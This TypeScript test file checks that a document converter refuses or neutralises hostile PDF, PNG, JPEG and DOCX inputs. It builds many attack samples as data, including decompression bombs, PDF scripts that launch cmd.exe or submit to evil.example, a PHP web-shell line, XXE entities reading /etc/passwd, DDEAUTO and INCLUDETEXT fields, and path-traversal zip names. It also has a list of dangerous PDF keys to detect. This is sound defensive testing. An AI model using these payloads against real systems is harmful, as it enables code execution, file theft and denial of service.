import { readdirSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { deflateSync } from "node:zlib";
import { PDFDocument, PDFName } from "@cantoo/pdf-lib";
import { strToU8, zipSync } from "fflate";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { convertDocument } from "../../src/server/conversion/convert-document.ts";
import { findOffice } from "../../src/server/conversion/office.ts";
import { isTried } from "../support/depth.ts";
import {
  docxOf,
  docxParts,
  honestDocx,
  honestJpeg,
  honestPdf,
  honestPng,
  OFFICE,
  paragraph,
} from "../support/honest-files.ts";

/** What may become of a hostile file: it is refused, it breaks its own process, or it is made harmless. */
type Fate = "refused" | "broken" | "harmless";
type Attack = readonly [name: string, make: () => Promise<Uint8Array> | Uint8Array, ...fates: Fate[]];

let visits = 0;
const listener = createServer((_request, response) => {
  visits += 1;
  response.end();
});
let outside = "";
beforeAll(async () => {
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  // A server that listens on a port has an address with one.
  outside = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/stolen`;
});
afterAll(() => listener.close());

const crc = (bytes: Uint8Array) => {
  let value = 0xffffffff;
  for (const byte of bytes) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit++) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1;
  }
  return (value ^ 0xffffffff) >>> 0;
};
const chunk = (type: string, data: Uint8Array) => {
  const body = Buffer.concat([Buffer.from(type), data]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(data.length, 0);
  frame.writeUInt32BE(crc(body), 4);
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
};
const SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const pngOf = (width: number, height: number, data: Uint8Array) => {
  const header = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 8, 2, 0, 0, 0]);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  return Buffer.concat([
    SIGNATURE,
    chunk("IHDR", header),
    chunk("IDAT", data),
    chunk("IEND", Buffer.alloc(0)),
  ]);
};
const bomb = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1_000_000), { level: 9 });

/** A PDF of these objects, the first of which is the catalogue. */
const rawPdf = (objects: readonly string[], trailer = "") => {
  const body = objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`).join("");
  return Buffer.from(
    `%PDF-1.7\n${body}trailer\n<< /Root 1 0 R /Size ${objects.length + 1} ${trailer}>>\nstartxref\n0\n%%EOF\n`,
    "latin1",
  );
};
const PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
const pageWith = (more: string) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${more} >>`;
const withCatalog = (more: string, ...objects: readonly string[]) =>
  rawPdf([`<< /Type /Catalog /Pages 2 0 R ${more} >>`, PAGES, pageWith(""), ...objects]);
const withPage = (more: string, ...objects: readonly string[]) =>
  rawPdf(["<< /Type /Catalog /Pages 2 0 R >>", PAGES, pageWith(more), ...objects]);
const withAnnotation = (annotation: string) =>
  withPage(`/Annots [<< /Type /Annot /Rect [0 0 9 9] ${annotation} >>]`);
const attached = async () => {
  const document = await PDFDocument.create();
  document.addPage();
  await document.attach(Buffer.from("MZ virus"), "virus.exe");
  document.addJavaScript("open", "app.launchURL('http://evil.example')");
  return document.save({ useObjectStreams: false });
};
const encrypted = async () => {
  const document = await PDFDocument.create();
  document.addPage();
  document.encrypt({ userPassword: "secret", ownerPassword: "secret" });
  return document.save();
};

const PDFS: readonly Attack[] = [
  ["empty", () => Buffer.alloc(0), "refused"],
  ["only its first bytes", () => Buffer.from("%PDF-1.7"), "refused"],
  [
    "random bytes after the head",
    () => Buffer.concat([Buffer.from("%PDF-1.7\n"), bomb(1).subarray(0, 900)]),
    "refused",
  ],
  ["cut in the middle", async () => (await honestPdf(3)).subarray(0, 700), "refused"],
  [
    "zero pages",
    () => rawPdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"]),
    "refused",
  ],
  ["no catalogue", () => rawPdf(["<< /Type /Nothing >>"]), "refused"],
  ["encrypted", encrypted, "refused"],
  [
    "says that it is encrypted",
    () => withCatalog("", "<< /Filter /Standard /V 1 /R 2 >>").subarray(0),
    "harmless",
    "refused",
  ],
  ["201 pages", () => honestPdf(201), "refused"],
  [
    "pages that hold themselves",
    () => rawPdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]),
    "refused",
    "broken",
  ],
  [
    "pages that double at every level",
    () =>
      rawPdf([
        "<< /Type /Catalog /Pages 2 0 R >>",
        ...Array.from(
          { length: 40 },
          (_, i) => `<< /Type /Pages /Kids [${i + 3} 0 R ${i + 3} 0 R] /Count 2 >>`,
        ),
        pageWith(""),
      ]),
    "refused",
    "broken",
  ],
  [
    "arrays in arrays",
    () => withPage(`/X ${"[".repeat(20_000)}${"]".repeat(20_000)}`),
    "refused",
    "broken",
    "harmless",
  ],
  [
    "dictionaries in dictionaries",
    () => withPage(`/X ${"<</A ".repeat(5_000)}1${">>".repeat(5_000)}`),
    "refused",
    "broken",
    "harmless",
  ],
  [
    "a bomb as the page's content",
    () =>
      withPage(
        "/Contents 4 0 R",
        `<< /Filter /FlateDecode /Length ${bomb(300).length} >>\nstream\n${bomb(300).toString("latin1")}\nendstream`,
      ),
    "harmless",
    "refused",
  ],
  [
    "a bomb as an object stream",
    () =>
      withPage(
        "",
        `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb(700).length} >>\nstream\n${bomb(700).toString("latin1")}\nendstream`,
      ),
    "harmless",
    "refused",
    "broken",
  ],
  [
    "a script that runs on opening",
    () => withCatalog("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "harmless",
  ],
  ["a program to launch", () => withCatalog("/OpenAction << /S /Launch /F (cmd.exe) >>"), "harmless"],
  ["actions of the document", () => withCatalog("/AA << /WC << /S /JavaScript /JS (x) >> >>"), "harmless"],
  [
    "named scripts",
    () => withCatalog("/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"),
    "harmless",
  ],
  ["an embedded program and a script", attached, "harmless"],
  ["an XFA form", () => withCatalog("/AcroForm << /Fields [] /XFA (<xdp/>) >>"), "harmless"],
  ["actions of the page", () => withPage("/AA << /O << /S /JavaScript /JS (x) >> >>"), "harmless"],
  ["a link to a script", () => withAnnotation("/Subtype /Link /A << /S /JavaScript /JS (x) >>"), "harmless"],
  [
    "a link that submits the form",
    () => withAnnotation("/Subtype /Link /A << /S /SubmitForm /F (http://evil.example) >>"),
    "harmless",
  ],
  [
    "a file as an annotation",
    () => withAnnotation("/Subtype /FileAttachment /FS << /EF << /F 9 0 R >> >>"),
    "harmless",
  ],
  ["rich media", () => withAnnotation("/Subtype /RichMedia /RichMediaContent << >>"), "harmless"],
  [
    "a button that launches",
    () => withAnnotation("/Subtype /Widget /FT /Btn /A << /S /Launch /F (x) >>"),
    "harmless",
  ],
  [
    "content from another file",
    () => withPage("/Contents 4 0 R", "<< /Length 0 /F (http://evil.example/a) >>\nstream\n\nendstream"),
    "harmless",
  ],
  [
    "a page also a web page",
    () => Buffer.concat([Buffer.from("%PDF-1.7\n<script>alert(1)</script>\n"), withCatalog("").subarray(9)]),
    "harmless",
  ],
  [
    "a web page first",
    async () => Buffer.concat([Buffer.from("<html><script>1</script>"), await honestPdf(1)]),
    "harmless",
  ],
  [
    "a zip behind it",
    async () => Buffer.concat([await honestPdf(1), zipSync({ "evil.exe": strToU8("MZ") })]),
    "harmless",
  ],
  ["a picture by another name", honestPng, "refused"],
  ["a Word document by another name", () => honestDocx("x"), "refused"],
];

const PICTURES: readonly Attack[] = [
  ["only its first bytes", () => SIGNATURE, "refused"],
  ["cut in the middle", async () => (await honestPng()).subarray(0, 120), "refused"],
  ["60000 by 60000 dots that it claims", () => pngOf(60_000, 60_000, bomb(1)), "refused"],
  [
    "10000 by 10000 dots that it has",
    async () =>
      sharp({ create: { width: 10_000, height: 10_000, channels: 3, background: "#fff" } })
        .png({ compressionLevel: 9 })
        .toBuffer(),
    "refused",
  ],
  ["no width", () => pngOf(0, 9, bomb(1)), "refused"],
  ["more data than dots", () => pngOf(10, 10, bomb(200)), "refused", "harmless"],
  [
    "a text that is a bomb",
    async () => {
      const png = await honestPng();
      return Buffer.concat([
        png.subarray(0, 33),
        chunk("zTXt", Buffer.concat([Buffer.from("a\0\0"), bomb(200)])),
        png.subarray(33),
      ]);
    },
    "harmless",
    "refused",
  ],
  [
    "a profile that is a bomb",
    async () => {
      const png = await honestPng();
      return Buffer.concat([
        png.subarray(0, 33),
        chunk("iCCP", Buffer.concat([Buffer.from("a\0\0"), bomb(200)])),
        png.subarray(33),
      ]);
    },
    "harmless",
    "refused",
  ],
  [
    "a wrong checksum",
    async () => {
      const png = Buffer.from(await honestPng());
      png[30] = (png[30] ?? 0) ^ 0xff;
      return png;
    },
    "refused",
    "harmless",
  ],
  [
    "a script behind it",
    async () => Buffer.concat([await honestPng(), Buffer.from("<?php system($_GET[0]); ?>")]),
    "harmless",
  ],
  [
    "a vector drawing by another name",
    () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>`),
    "refused",
  ],
  ["PostScript by another name", () => Buffer.from("%!PS-Adobe-3.0\n(/etc/passwd) run"), "refused"],
  [
    "a GIF by another name",
    () =>
      sharp({ create: { width: 9, height: 9, channels: 3, background: "#fff" } })
        .gif()
        .toBuffer(),
    "refused",
  ],
  [
    "a TIFF by another name",
    () =>
      sharp({ create: { width: 9, height: 9, channels: 3, background: "#fff" } })
        .tiff()
        .toBuffer(),
    "refused",
  ],
  ["a JPEG by another name", honestJpeg, "refused"],
];

const JPEGS: readonly Attack[] = [
  ["only its first bytes", () => Buffer.from([0xff, 0xd8, 0xff, 0xe0]), "refused"],
  ["cut in the middle", async () => (await honestJpeg()).subarray(0, 400), "refused"],
  [
    "65500 by 65500 dots that it claims",
    async () => {
      const jpeg = Buffer.from(await honestJpeg());
      const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
      jpeg.writeUInt16BE(65_500, frame + 5);
      jpeg.writeUInt16BE(65_500, frame + 7);
      return jpeg;
    },
    "refused",
  ],
  [
    "a script in a comment",
    async () => {
      const jpeg = await honestJpeg();
      const text = Buffer.from("<script>alert(1)</script>");
      return Buffer.concat([
        jpeg.subarray(0, 2),
        Buffer.from([0xff, 0xfe, 0, text.length + 2]),
        text,
        jpeg.subarray(2),
      ]);
    },
    "harmless",
  ],
  [
    "an archive behind it",
    async () => Buffer.concat([await honestJpeg(), zipSync({ "a.js": strToU8("x") })]),
    "harmless",
  ],
];

const doctype = (entities: string, use: string) =>
  zipSync({
    ...docxParts(""),
    "word/document.xml": strToU8(
      `<!DOCTYPE w [${entities}]><w:document xmlns:w="x"><w:body>${use}</w:body></w:document>`,
    ),
  });
/** A relationship to a server outside. */
const toOutside = (kind: string) =>
  `<Relationship Id="x1" Type="${OFFICE}/${kind}" Target="${outside}" TargetMode="External"/>`;
/** A document with nothing to see of what lies outside. */
const external = (kind: string) => docxOf(paragraph("Body"), { relationships: toOutside(kind) });
const withOutsideTemplate = () =>
  docxOf(paragraph("Body"), {
    parts: {
      "word/settings.xml": `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}"><w:attachedTemplate r:id="x1"/></w:settings>`,
      "word/_rels/settings.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${toOutside("attachedTemplate")}</Relationships>`,
    },
    relationships: `<Relationship Id="s1" Type="${OFFICE}/settings" Target="settings.xml"/>`,
  });
const withOutsidePicture = () =>
  docxOf(
    `${paragraph("Body")}<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="x1" r:embed="x1"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
    { relationships: toOutside("image") },
  );

/** A picture that lies where this relationship says. */
const linked = (relationship: string, blip = `r:link="x1"`) =>
  docxOf(
    `${paragraph("Body")}<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${blip}/></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
    { relationships: relationship },
  );
const field = (...instructions: readonly string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instructions
    .map((text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`)
    .join("")}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const recoded = (encoding: string, recode: (text: string) => Uint8Array) =>
  zipSync({
    ...docxParts(""),
    "word/document.xml": recode(
      `<?xml version="1.0" encoding="${encoding}"?><!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>`,
    ),
  });

// A picture that lies elsewhere is not fetched, and a document is not taken without it (PPR-18).
const DOCUMENTS: readonly Attack[] = [
  ["a field that brings in a file", () => docxOf(field(' INCLUDETEXT "/etc/passwd" ')), "harmless"],
  ["a field in two pieces", () => docxOf(field(" INCLUDE", 'TEXT "/etc/passwd" ')), "harmless"],
  ["a field that brings in a picture", () => docxOf(field(` INCLUDEPICTURE "${outside}" \\d `)), "harmless"],
  ["a field that starts a program", () => docxOf(field(' DDEAUTO c:\\cmd.exe "/k calc" ')), "harmless"],
  [
    "a simple field that brings in a file",
    () => docxOf('<w:fldSimple w:instr="INCLUDETEXT &quot;/etc/passwd&quot;"><w:r/></w:fldSimple>'),
    "harmless",
  ],
  [
    "a picture at the address of a link",
    () =>
      linked(`<Relationship Id="x1" Type="${OFFICE}/hyperlink" Target="${outside}" TargetMode="External"/>`),
    "refused",
  ],
  [
    "a picture from outside in other letters",
    () =>
      linked(
        `<Relationship Id="x1" Type="${OFFICE}/image" Target="${outside}" TargetMode="&#69;xter&#x6e;al"/>`,
      ),
    "refused",
  ],
  [
    "a picture from outside by a name with a prefix",
    () =>
      linked(
        `<p:Relationship xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships" Id="x1" Type="${OFFICE}/image" Target="${outside}" TargetMode="External"/>`,
      ),
    "refused",
  ],
  [
    "a picture from the disk that claims to be inside",
    () =>
      linked(
        `<Relationship Id="x1" Type="${OFFICE}/image" Target="file:///etc/passwd"/>`,
        `r:link="x1" r:embed="x1"`,
      ),
    "refused",
  ],
  [
    "an old drawing with an address",
    () =>
      docxOf(
        `${paragraph("Body")}<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:90pt;height:90pt"><v:imagedata src="${outside}" xmlns:o="urn:schemas-microsoft-com:office:office" o:href="${outside}"/></v:shape></w:pict></w:r></w:p>`,
      ),
    "refused",
  ],
  [
    "entities in two bytes a letter",
    () => recoded("UTF-16", (text) => Buffer.from(`\uFEFF${text}`, "utf16le")),
    "refused",
  ],
  [
    "entities in seven bits",
    () => recoded("UTF-7", (text) => Buffer.from(text.replaceAll("<!", "+ADwAIQ-"))),
    "refused",
  ],
  ["an empty zip", () => zipSync({}), "refused"],
  ["a zip of something else", () => zipSync({ "evil.exe": strToU8("MZ") }), "refused"],
  ["cut in the middle", () => honestDocx("x").subarray(0, 400), "refused"],
  [
    "a part of 300 MB",
    () =>
      zipSync(
        docxParts(paragraph("x"), {
          parts: { "word/styles.xml": new Uint8Array(300_000_000) },
          relationships: `<Relationship Id="s" Type="${OFFICE}/styles" Target="styles.xml"/>`,
        }),
        { level: 6 },
      ),
    "refused",
  ],
  [
    "a text of spaces without end",
    () => zipSync({ ...docxParts(""), "word/document.xml": new Uint8Array(19_000_000).fill(32) }),
    "refused",
  ],
  [
    "5000 parts",
    () =>
      zipSync({
        ...docxParts(paragraph("x")),
        ...Object.fromEntries(
          Array.from({ length: 5_000 }, (_, i) => [`word/theme/t${i}.xml`, strToU8("x")]),
        ),
      }),
    "refused",
  ],
  [
    "entities that multiply",
    () =>
      doctype(
        `<!ENTITY a "${"x".repeat(99)}"><!ENTITY b "${"&a;".repeat(99)}"><!ENTITY c "${"&b;".repeat(99)}">`,
        "&c;",
      ),
    "refused",
  ],
  ["an entity that reads a file", () => doctype(`<!ENTITY a SYSTEM "file:///etc/passwd">`, "&a;"), "refused"],
  ["an entity that calls out", () => doctype(`<!ENTITY % a SYSTEM "${outside}"> %a;`, "x"), "refused"],
  ["a picture from outside", withOutsidePicture, "refused"],
  ["a template from outside", withOutsideTemplate, "harmless"],
  ["an object from outside", () => external("oleObject"), "harmless"],
  ["a frame from outside", () => external("frame"), "harmless"],
  [
    "a picture from the disk",
    () =>
      docxOf(
        `<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="x1"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
        {
          relationships: `<Relationship Id="x1" Type="${OFFICE}/image" Target="file:///etc/passwd" TargetMode="External"/>`,
        },
      ),
    "refused",
  ],
  [
    "macros",
    () => docxOf(paragraph("x"), { parts: { "word/vbaProject.bin": strToU8("macro") } }),
    "harmless",
  ],
  [
    "an embedded program",
    () => docxOf(paragraph("x"), { parts: { "word/embeddings/oleObject1.bin": strToU8("MZ") } }),
    "harmless",
  ],
  ["a control", () => docxOf(paragraph("x"), { parts: { "word/activeX/activeX1.xml": "<x/>" } }), "harmless"],
  [
    "names that climb",
    () =>
      docxOf(paragraph("x"), {
        parts: { "../../../../tmp/evil.xml": "x", "/etc/evil": "x", "word\\..\\evil": "x" },
      }),
    "harmless",
  ],
  [
    "a picture that is a bomb",
    () =>
      docxOf(
        `<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:embed="p"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
        {
          parts: { "word/media/a.png": pngOf(60_000, 60_000, bomb(1)) },
          relationships: `<Relationship Id="p" Type="${OFFICE}/image" Target="media/a.png"/>`,
        },
      ),
    "refused",
  ],
  [
    "tables in tables in tables",
    () => docxOf(`${"<w:tbl><w:tr><w:tc>".repeat(3_000)}<w:p/>${"</w:tc></w:tr></w:tbl>".repeat(3_000)}`),
    "harmless",
    "refused",
    "broken",
  ],
  ["XML without an end", () => docxOf("<w:p>"), "refused"],
  [
    "a cell over a million columns",
    () =>
      docxOf(`<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>`),
    "harmless",
  ],
  ["words of the typesetter", () => honestDocx('#read("/etc/passwd") #import "x" #panic()'), "harmless"],
  ["a program by another name", () => Buffer.from("MZ\x90\0"), "refused"],
];

const office = await findOffice();

const ATTACKS = Object.entries({ pdf: PDFS, png: PICTURES, jpg: JPEGS, docx: DOCUMENTS })
  .flatMap(([extension, attacks]) =>
    attacks.map(([name, make, ...fates]) => ({
      name: `a .${extension} with ${name}`,
      extension,
      make,
      office: null,
      fates,
    })),
  )
  .filter(isTried)
  .flatMap((attack) =>
    office === null || attack.extension !== "docx"
      ? [attack]
      : [attack, { ...attack, name: `${attack.name}, through LibreOffice`, office }],
  );

describe("a hostile file fails alone or is made harmless", () => {
  it.concurrent.each(ATTACKS)(
    "$name",
    { timeout: 120_000 },
    async ({ extension, make, office: program, fates }) => {
      const conversion = await convertDocument(await make(), {
        extension,
        office: program,
        signal: new AbortController().signal,
      });
      expect(fates).toContain(conversion.kind === "converted" ? "harmless" : conversion.kind);
      if (conversion.kind === "converted") await expectHarmless(conversion.pdf);
      expect(visits).toBe(0);
      expect(readdirSync(tmpdir()).filter((name) => name.startsWith("evil"))).toEqual([]);
    },
  );
});

/** Nothing in the PDF runs, opens or brings along anything. */
async function expectHarmless(bytes: Uint8Array): Promise<void> {
  const document = await PDFDocument.load(bytes);
  expect(document.getPageCount()).toBeGreaterThan(0);
  const texts = document.context.enumerateIndirectObjects().map(([, object]) => String(object));
  for (const word of [
    "/JavaScript",
    "/JS",
    "/Launch",
    "/OpenAction",
    "/AA",
    "/EF",
    "/XFA",
    "/SubmitForm",
    "/RichMedia",
  ]) {
    expect(texts.filter((text) => new RegExp(`${word}\\b`).test(text))).toEqual([]);
  }
  expect(document.catalog.get(PDFName.of("Names"))).toBeUndefined();
  expect(Buffer.from(bytes).includes("root:x:0")).toBe(false);
}
